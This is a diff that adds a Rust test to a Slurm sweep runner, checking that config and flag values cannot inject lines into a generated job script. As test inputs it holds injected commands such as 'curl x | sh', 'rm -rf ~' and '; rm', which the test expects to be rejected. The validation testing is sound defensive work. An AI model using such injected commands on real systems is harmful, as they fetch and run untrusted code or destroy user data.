@@ -476,3 +476,50 @@ fn a_run_that_cannot_record_its_status_is_not_lost() {
     );
     assert!(err.contains("the sweep's tables: cannot write"), "{err}");
 }
+
+/// Nothing from a config or a flag can add a line to the job script: a
+/// newline in `slurm.mem` (file, --set or --mem), a bad `extra` option or
+/// an --out with a space (it would reach an `#SBATCH --output=` line) is an
+/// error naming it, and no script is written.
+#[test]
+fn slurm_script_values_cannot_inject_lines() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = write(dir.path(), "s.toml", SWEEP);
+    let out = dir.path().join("out");
+    let slurm = |args: &[&str], out: &Path| {
+        runner()
+            .arg("slurm")
+            .arg(&file)
+            .arg("--out")
+            .arg(out)
+            .args(args)
+            .output()
+            .unwrap()
+    };
+    for (args, want) in [
+        (vec!["--mem", "4G\ncurl x | sh"], "slurm.mem"),
+        (vec!["--set", "slurm.mem=\"4G\\nrm -rf ~\""], "slurm.mem"),
+        (vec!["--time", "1:00; rm"], "slurm.time"),
+        (
+            vec!["--set", "slurm.extra=[\"--x\\nid\"]"],
+            "slurm.extra[0]",
+        ),
+        (vec!["--partition", "a b"], "slurm.partition"),
+    ] {
+        let o = slurm(&args, &out);
+        assert!(!o.status.success(), "{args:?} accepted");
+        assert!(stderr(&o).contains(want), "{args:?}: {}", stderr(&o));
+    }
+    let spaced = dir.path().join("my results");
+    let o = slurm(&[], &spaced);
+    assert!(!o.status.success());
+    assert!(stderr(&o).contains("#SBATCH --output"), "{}", stderr(&o));
+    assert!(!out.join("tiny_sweep/slurm.sbatch").exists());
+    let o = slurm(
+        &["--mem", "8G", "--set", "slurm.extra=[\"--account=lab\"]"],
+        &out,
+    );
+    assert!(o.status.success(), "{}", stderr(&o));
+    let text = read(out.join("tiny_sweep/slurm.sbatch"));
+    assert!(text.contains("#SBATCH --mem=8G\n#SBATCH") && text.contains("#SBATCH --account=lab\n"));
+}
